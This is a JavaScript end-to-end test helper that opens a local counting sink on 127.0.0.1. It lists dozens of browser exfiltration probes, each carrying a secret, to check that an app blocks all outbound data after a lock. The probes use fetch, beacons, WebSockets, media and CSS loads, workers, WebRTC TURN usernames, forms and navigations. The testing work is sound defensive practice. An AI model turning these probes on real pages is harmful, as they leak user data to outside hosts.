// Exit probes for the end-to-end tests: every way we know for script running in
// the app's document (after the lock) to send data out, aimed at a local sink
// that counts what arrives. See the test "no exit after the lock" in app.test.mjs.
import { createServer } from 'node:net';
import dgram from 'node:dgram';

/**
 * A sink on 127.0.0.1: a TCP server that counts connections and every byte that
 * arrives (it answers any HTTP request with an empty 200), and a UDP socket for
 * STUN/TURN (WebRTC). `hits()` is what arrived since the last `reset()`.
 */
export async function openSink() {
  let connections = 0, bytes = 0, lines = [], datagrams = 0, udpBytes = 0;
  const sockets = new Set();
  const tcp = createServer((c) => {
    connections++;
    sockets.add(c);
    c.on('close', () => sockets.delete(c));
    c.on('data', (d) => {
      bytes += d.length;
      lines.push(d.toString('latin1').split('\r\n')[0]);
      c.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
    });
    c.on('error', () => {});
  });
  await new Promise((ok) => tcp.listen(0, '127.0.0.1', ok));
  const udp = dgram.createSocket('udp4');
  udp.on('message', (m) => { datagrams++; udpBytes += m.length; });
  await new Promise((ok) => udp.bind(0, '127.0.0.1', ok));
  return {
    url: `http://127.0.0.1:${tcp.address().port}`,
    udpPort: udp.address().port,
    hits: () => ({ connections, bytes, requests: [...lines], datagrams, udpBytes }),
    reset: () => { connections = 0; bytes = 0; lines = []; datagrams = 0; udpBytes = 0; },
    close: async () => {
      for (const c of sockets) c.destroy();
      await new Promise((ok) => tcp.close(ok));
      udp.close();
    },
  };
}

/**
 * Runs in the page (page.evaluate): tries every probe that does not navigate
 * this document, each carrying `secret`; returns how each call ended
 * ("ran", "rejected: X", "threw: X" or "pending" after 300 ms). Whether
 * anything left is decided by the sink, not by these outcomes.
 */
export async function staticProbes({ sink, udpPort, secret }) {
  const u = (p) => `${sink}/${p}?data=${encodeURIComponent(secret)}`;
  const el = (tag, props, parent = document.body) => {
    const e = document.createElement(tag);
    for (const [k, v] of Object.entries(props)) if (k in e) e[k] = v; else e.setAttribute(k, v);
    parent.append(e);
    return e;
  };
  const blobUrl = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  const rtc = (server, username) => {
    const Pc = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection;
    const pc = new Pc({ iceServers: [{ urls: server, username, credential: 'x' }] });
    pc.createDataChannel('d');
    return pc.createOffer().then((o) => pc.setLocalDescription(o));
  };
  const probes = {
    fetch: () => fetch(u('fetch')),
    fetch_no_cors_post: () => fetch(u('fetch-post'), { method: 'POST', body: secret, mode: 'no-cors' }),
    fetch_keepalive: () => fetch(u('fetch-keepalive'), { keepalive: true, mode: 'no-cors' }),
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', u('xhr')); x.send(); },
    beacon: () => navigator.sendBeacon(u('beacon'), secret),
    websocket: () => new WebSocket(u('ws').replace(/^http/, 'ws')),
    eventsource: () => new EventSource(u('eventsource')),
    img: () => el('img', { src: u('img') }),
    img_srcset: () => el('img', { srcset: `${u('srcset')} 1x` }),
    css_link: () => el('link', { rel: 'stylesheet', href: u('css') }, document.head),
    css_import: () => el('style', { textContent: `@import url("${u('css-import')}");` }, document.head),
    font: () => new FontFace('probe', `url(${u('font')})`).load(),
    prefetch: () => el('link', { rel: 'prefetch', href: u('prefetch') }, document.head),
    preload: () => el('link', { rel: 'preload', as: 'fetch', href: u('preload') }, document.head),
    modulepreload: () => el('link', { rel: 'modulepreload', href: u('modulepreload') }, document.head),
    preconnect: () => el('link', { rel: 'preconnect', href: sink }, document.head),
    dns_prefetch: () => el('link', { rel: 'dns-prefetch', href: sink }, document.head),
    iframe: () => el('iframe', { src: u('iframe') }),
    iframe_srcdoc_refresh: () => el('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${u('srcdoc-refresh')}">` }),
    iframe_srcdoc_img: () => el('iframe', { srcdoc: `<img src="${u('srcdoc-img')}">` }),
    object: () => el('object', { data: u('object') }),
    embed: () => el('embed', { src: u('embed') }),
    video: () => el('video', { src: u('video') }),
    audio: () => el('audio', { src: u('audio') }),
    video_poster: () => el('video', { poster: u('poster') }),
    svg_image: () => { document.body.insertAdjacentHTML('beforeend', `<svg><image href="${u('svg-image')}"/></svg>`); },
    input_image: () => el('input', { type: 'image', src: u('input-image') }),
    script: () => el('script', { src: u('script') }),
    dynamic_import: () => import(u('import')),
    worker_url: () => new Worker(u('worker')),
    shared_worker: () => new SharedWorker(blobUrl(`fetch(${JSON.stringify(u('shared-worker'))})`)),
    service_worker: () => navigator.serviceWorker.register(u('sw')),
    worker_fetch: () => new Worker(blobUrl(`fetch(${JSON.stringify(u('worker-fetch'))}); new Image; importScripts(${JSON.stringify(u('import-scripts'))})`)),
    nested_worker_fetch: () => new Worker(blobUrl(
      `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch(${JSON.stringify(u('nested-worker-fetch'))})`)}], { type: 'text/javascript' })))`)),
    // The link's own target is this document's fragment (a bare '#' would resolve against the shell's address).
    ping: () => el('a', { href: `${location.href.split('#')[0]}#ping`, ping: u('ping') }).click(),
    form_blank: () => el('form', { action: u('form-blank'), target: '_blank' }).submit(),
    webrtc_turn: () => rtc(`turn:127.0.0.1:${udpPort}?transport=udp`, secret),
    webrtc_stun: () => rtc(`stun:127.0.0.1:${udpPort}`),
    webrtc_from_child_frame: () => {
      const f = el('iframe', {});
      const Pc = f.contentWindow.RTCPeerConnection;
      const pc = new Pc({ iceServers: [{ urls: `turn:127.0.0.1:${udpPort}?transport=udp`, username: secret, credential: 'x' }] });
      pc.createDataChannel('d');
      return pc.createOffer().then((o) => pc.setLocalDescription(o));
    },
    popup: () => window.open(u('popup')),
    link_blank: () => el('a', { href: u('link-blank'), target: '_blank' }).click(),
  };
  const out = {};
  for (const [name, probe] of Object.entries(probes)) {
    try {
      out[name] = await Promise.race([
        Promise.resolve(probe()).then(() => 'ran', (e) => `rejected: ${e?.name ?? e}`),
        new Promise((ok) => setTimeout(() => ok('pending'), 300)),
      ]);
    } catch (e) {
      out[name] = `threw: ${e?.name ?? e}`;
    }
  }
  return out;
}

/** Probes that navigate the document they run in (each run on its own, in page.evaluate, with `{ sink, secret }`). */
export const NAVIGATIONS = {
  top_location: ({ sink, secret }) => { top.location.href = `${sink}/top-location?data=${secret}`; },
  parent_location: ({ sink, secret }) => { parent.location.href = `${sink}/parent-location?data=${secret}`; },
  link_top: ({ sink, secret }) => {
    const a = document.createElement('a');
    a.href = `${sink}/link-top?data=${secret}`;
    a.target = '_top';
    document.body.append(a);
    a.click();
  },
  form_post: ({ sink, secret }) => {
    const f = document.createElement('form');
    f.action = `${sink}/form-post?data=${secret}`;
    f.method = 'post';
    document.body.append(f);
    f.submit();
  },
  location_href: ({ sink, secret }) => { location.href = `${sink}/location-href?data=${secret}`; },
  location_assign: ({ sink, secret }) => location.assign(`${sink}/location-assign?data=${secret}`),
  location_replace: ({ sink, secret }) => location.replace(`${sink}/location-replace?data=${secret}`),
  link_self: ({ sink, secret }) => {
    const a = document.createElement('a');
    a.href = `${sink}/link-self?data=${secret}`;
    document.body.append(a);
    a.click();
  },
  download_cross_origin: ({ sink, secret }) => {
    const a = document.createElement('a');
    a.href = `${sink}/download?data=${secret}`;
    a.download = 'x.csv';
    document.body.append(a);
    a.click();
  },
  meta_refresh: ({ sink, secret }) => {
    const m = document.createElement('meta');
    m.httpEquiv = 'refresh';
    m.content = `0;url=${sink}/meta-refresh?data=${secret}`;
    document.head.append(m);
  },
  form_get: ({ sink, secret }) => {
    const f = document.createElement('form');
    f.action = `${sink}/form-get`;
    const i = document.createElement('input');
    i.name = 'data';
    i.value = secret;
    f.append(i);
    document.body.append(f);
    f.submit();
  },
};
